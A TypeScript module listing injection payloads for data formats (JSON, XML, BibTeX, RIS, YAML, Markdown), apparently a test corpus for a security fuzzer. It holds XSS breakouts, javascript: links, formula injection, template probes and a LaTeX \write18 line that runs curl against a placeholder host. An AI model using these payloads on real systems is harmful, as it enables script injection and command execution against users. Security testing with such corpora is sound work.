import { family } from "./payload";

const raw = String.raw;

/** Ways out of the strings of JSON, XML, BibTeX, RIS and YAML, and out of the elements that hold them. */
export const dataFormats = family("data formats", 1500, [
  '"}</script><script>RUN</script>',
  '"}]}</script><img src=x onerror=RUN>',
  "<!--<script>RUN</script>",
  '","@id":"javascript:RUN","x":"',
  raw`\"}</script><script>RUN</script>`,
  raw`\u003c/script\u003e\u003cscript\u003eRUN\u003c/script\u003e`,
  "\u2028RUN\u2029",
  "&lt;/script&gt;&lt;!--",
  "]]></description><script xmlns='http://www.w3.org/1999/xhtml'>RUN</script>",
  "</title><script xmlns='http://www.w3.org/1999/xhtml'>RUN</script>",
  "</entry><entry><link href='javascript:RUN'/></entry>",
  "<?xml-stylesheet type='text/xsl' href='https:HOST'?>",
  "}}, url = {javascript:RUN}}\n\n@misc{hostile, title = {x}}",
  raw`x}\write18{curl https:HOST}`,
  "x\nUR  - javascript:RUN\nER  - \nTY  - GEN\nTI  - hostile",
  "x\r\nER  - \r\nTY  - GEN",
  "x](javascript:RUN) [y",
  "x\n# Hostile\n- [click](javascript:RUN)",
  'x"\n---\ntemplate: page\n---\n<img src=x onerror=RUN>',
  "ctx_ver=Z39.88-2004&rft_id=javascript:RUN",
  '=HYPERLINK("javascript:RUN")',
  "${RUN}{{RUN}}#{RUN}<%RUN%>",
]);
